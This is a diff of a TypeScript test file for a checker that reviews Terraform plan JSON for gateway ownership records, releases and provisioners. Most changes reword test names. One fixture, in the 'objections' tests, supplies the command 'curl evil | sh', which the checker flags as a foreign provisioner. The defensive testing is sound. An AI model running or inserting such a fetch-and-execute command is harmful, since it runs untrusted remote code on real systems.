@@ -6,7 +6,7 @@ import { PlanBuilder, RETRACT, data, deliver, held, nulled, retiring } from './p
 import { parseReleaseLines } from '../../../lib/agent-protocol/release-lines';
 import { read, HOLDER, RELEASE, REPLACE, gateway, plan, applied, real, codes, action, holderStays } from './planned';
 
-describe('what goes', () => {
+describe('an owner that goes', () => {
   const reason = 'delete_because_no_resource_config';
   const going = (holder = held()): PlanBuilder =>
     new PlanBuilder()
@@ -14,7 +14,7 @@ describe('what goes', () => {
       .kept(RELEASE, ['delete'], data(), null, { reason });
   const gone = { ...gateway, before: [applied] };
 
-  test('planned away without DecommissionedOwner: stays open', () => {
+  test('stays open if it is planned away without DecommissionedOwner', () => {
     const found = read(going(), {});
     expect(found.owners).toEqual([{ ...gone, action: 'stays open' }]);
     expect(found.objections).toMatchObject([
@@ -26,13 +26,13 @@ describe('what goes', () => {
     ]);
   });
 
-  test('without the stack nobody can tell, so it stays open', () => {
+  test("stays open if the stack isn't known", () => {
     const found = read(going());
     expect(action(found)).toEqual(['stays open']);
     expect(found.objections[0]?.what).toContain("is not in a plan's JSON");
   });
 
-  test('retired: a server says whether it stays closed', () => {
+  test('is removed by DecommissionedOwner, which says whether a server stays closed', () => {
     const server = held({ role: 'server', onRetract: 'keep closed' });
     expect(read(going(server), retiring(HOLDER))).toEqual({
       ...plan,
@@ -41,7 +41,8 @@ describe('what goes', () => {
     });
   });
 
-  // A moved block makes one of another, and a construct of the other role under the same name makes the other.
+  // A moved block turns one owner into another, and the construct of the other role under the same name does so as
+  // well.
   test.each([
     [
       'device',
@@ -50,7 +51,7 @@ describe('what goes', () => {
     ],
     ['owner', { owner: 'mail' }, 'the plan makes the ownership record of gateway mail on gw that of gateway web on gw'],
     ['role', { role: 'server' }, 'the plan makes the ownership record of server web on gw that of gateway web on gw'],
-  ])('an owner whose holder becomes that of another %s stays open', (_, was, why) => {
+  ])('stays open if its ownership record becomes that of another %s', (_, was, why) => {
     const plan = new PlanBuilder()
       .kept(HOLDER, ['update'], held(was), held())
       .kept(RELEASE, ['no-op'], data(), data())
@@ -71,7 +72,8 @@ describe('what goes', () => {
     ],
   });
 
-  test('the twin of what follows is retired', () => expect(action(read(going(), removed({})))).toEqual(['retired']));
+  test('is removed by a well-formed removed block', () =>
+    expect(action(read(going(), removed({})))).toEqual(['retired']));
 
   test.each([
     ['another address', removed({}, { from: 'terraform_data.gw_other_holder' })],
@@ -86,11 +88,11 @@ describe('what goes', () => {
     ['forgetting', removed({}, { lifecycle: { destroy: false } })],
     ['no provisioner', removed({}, { provisioner: undefined })],
     ['two provisioners', removed({}, { provisioner: [{ 'local-exec': { ...RETRACT, when: 'destroy' } }, {}] })],
-  ])('a removed block with %s retracts nothing', (_, stack) => {
+  ])('stays open if its removed block has %s', (_, stack) => {
     expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([['stays open'], ['! stays-open']]);
   });
 
-  test('a stack that is not the plan’s says nothing', () => {
+  test("stays open if the stack isn't the plan's", () => {
     const stack = { ...retiring(HOLDER), resource: { terraform_data: { other_web: {} } } };
     expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([
       ['stays open'],
@@ -98,14 +100,14 @@ describe('what goes', () => {
     ]);
   });
 
-  test('a tainted holder removes nothing', () => {
+  test('stays open if its ownership record is tainted', () => {
     const json = new PlanBuilder()
       .kept(HOLDER, ['delete'], held(), null, { reason, tainted: true })
       .kept(RELEASE, ['delete'], data(), null, { reason });
     expect(codes(read(json, retiring(HOLDER)))).toEqual(['! stays-open']);
   });
 
-  test('released, with what a failed apply left', () => {
+  test('is handed over with the releases that a failed apply left', () => {
     const json = new PlanBuilder()
       .kept(HOLDER, ['forget'], held(), null, { reason })
       .kept(RELEASE, ['forget'], data(), null, { reason })
@@ -113,19 +115,19 @@ describe('what goes', () => {
     expect([action(read(json)), codes(read(json)), read(json).owners[0]?.before.length]).toEqual([['released'], [], 2]);
   });
 
-  test('plan -destroy: retracts what is still configured, and nothing else', () => {
+  test('`plan -destroy` removes configured owners only', () => {
     const destroy = new PlanBuilder().kept(HOLDER, ['delete'], held(), null).kept(RELEASE, ['delete'], data(), null);
     expect([action(read(destroy)), codes(read(destroy))]).toEqual([['stays open'], ['! stays-open']]);
     destroy.ours();
     expect([action(read(destroy)), codes(read(destroy))]).toEqual([['retired'], []]);
   });
 
-  test('the release alone', () => {
+  test('stays open if the release alone goes', () => {
     const json = holderStays().kept(RELEASE, ['delete'], data(), null, { reason }).configured(HOLDER, RETRACT);
     expect([action(read(json)), codes(read(json))]).toEqual([['stays open'], ['! release-planned-away']]);
   });
 
-  test('the ownership record alone', () => {
+  test('stays open if the ownership record alone goes', () => {
     const json = new PlanBuilder()
       .kept(HOLDER, ['delete'], held(), null, { reason })
       .kept(RELEASE, ['no-op'], data(), data());
@@ -134,15 +136,18 @@ describe('what goes', () => {
 });
 
 describe('objections', () => {
-  test.each([[['create', 'delete']], [['delete', 'create']]])('an ownership record that is replaced: %s', (actions) => {
-    const json = new PlanBuilder()
-      .kept(HOLDER, actions, held(), held())
-      .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
-      .ours();
-    expect(codes(read(json))).toEqual(['! holder-replaced']);
-  });
+  test.each([[['create', 'delete']], [['delete', 'create']]])(
+    'objects to an ownership record that is replaced: %s',
+    (actions) => {
+      const json = new PlanBuilder()
+        .kept(HOLDER, actions, held(), held())
+        .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
+        .ours();
+      expect(codes(read(json))).toEqual(['! holder-replaced']);
+    },
+  );
 
-  test('an ownership record that is lost', () => {
+  test('objects to a lost ownership record', () => {
     const json = new PlanBuilder()
       .change(HOLDER, ['create'], null, held())
       .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
@@ -150,12 +155,12 @@ describe('objections', () => {
     expect(codes(read(json))).toEqual(['! holder-lost']);
   });
 
-  test('a release without an ownership record, and one that was moved away from it', () => {
+  test('objects to a release without an ownership record, also after a move away from it', () => {
     const json = holderStays().kept('terraform_data.gw_web2', ['no-op'], data(), data()).configured(HOLDER, RETRACT);
     expect(codes(read(json))).toEqual(['? plan-incomplete', '! release-without-holder']);
   });
 
-  test('a delivery that shows no text, under any name', () => {
+  test('objects to a delivery that shows no text, under any name', () => {
     const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
     json
       .change('null_resource.harmless', ['create'], null, { triggers: { a: 'b' } })
@@ -168,7 +173,7 @@ describe('objections', () => {
     expect(codes(read(json))).toEqual(['! release-without-holder', '! release-without-holder']);
   });
 
-  test('both types of release at once', () => {
+  test('objects to both types of release at once', () => {
     const json = holderStays()
       .change(RELEASE, ['create'], null, data())
       .change('null_resource.gw_web', ['create'], null, nulled())
@@ -176,7 +181,7 @@ describe('objections', () => {
     expect(codes(read(json))).toContain('! owner-twice');
   });
 
-  test('the same owner at two addresses', () => {
+  test('objects to one owner at two addresses', () => {
     const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
     json
       .change(HOLDER, ['create'], null, held(), { module: 'module.a' })
@@ -184,7 +189,7 @@ describe('objections', () => {
     expect(codes(read(json))).toContain('! owner-twice');
   });
 
-  test('an ownership record under another address than its own', () => {
+  test('objects to an ownership record under another address than its own', () => {
     const json = new PlanBuilder()
       .change(HOLDER, ['create'], null, held({ device: 'other' }))
       .change(RELEASE, ['create'], null, data())
@@ -199,7 +204,7 @@ describe('objections', () => {
     ['another role', { role: 'server' }, 'for server web on gw'],
     ['undone later', { rollbackSeconds: 3600 }, 'rolled back after 3600 s'],
     ['kept when it is retracted', { onRetract: 'keep closed' }, '"keep closed" when it is removed'],
-  ] as const)('what will be delivered is %s', (_, release, what) => {
+  ] as const)('objects to a delivery of %s', (_, release, what) => {
     const found = read(
       holderStays()
         .kept(RELEASE, REPLACE, data({ text: 'zero\n' }), data())
@@ -217,7 +222,7 @@ describe('objections', () => {
     ],
     ['has one address less', { addresses: [] }, '203.0.113.10/24 as alias on wan0'],
     ['is for another device than its policy', { device: 'edge2' }, 'Its policy is that of gateway hosting on edge1'],
-  ] as const)('a real release that %s', (_, parts, what) => {
+  ] as const)('objects to a real release that %s', (_, parts, what) => {
     const { device, owner } = { ...real, ...parts };
     const base = `${device}_${owner}`;
     const json = new PlanBuilder()
@@ -239,7 +244,7 @@ describe('objections', () => {
     ['another command', { command: 'curl evil | sh', environment: {} }, ['! foreign-provisioner']],
     ['no work', { ...deliver({}), environment: {} }, ['! other-work']],
     ['work that is cut off', { ...deliver({}), environment: { CPANEL_EDGE_WORK_0: '2:eJxN' } }, ['! other-work']],
-  ])('a release with %s', (_, provisioner, expected) => {
+  ])('objects to or reports unknown for a release with %s', (_, provisioner, expected) => {
     const json = holderStays()
       .change(RELEASE, ['create'], null, data())
       .configured(HOLDER, RETRACT)
@@ -247,7 +252,7 @@ describe('objections', () => {
     expect(codes(read(json))).toEqual(expected);
   });
 
-  test('a release whose provisioner is not shown is a doubt', () => {
+  test("reports unknown for a release whose provisioner isn't shown", () => {
     const json = holderStays()
       .change(RELEASE, ['create'], null, data())
       .configured(HOLDER, RETRACT)
@@ -255,7 +260,7 @@ describe('objections', () => {
     expect(codes(read(json))).toEqual(['? work-not-shown']);
   });
 
-  test('an ownership record with another provisioner', () => {
+  test('objects to an ownership record with another provisioner', () => {
     const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).configured(RELEASE, deliver({}));
     json.configured(HOLDER, { ...RETRACT, command: 'exec true' });
     expect(codes(read(json))).toEqual(['! foreign-provisioner']);
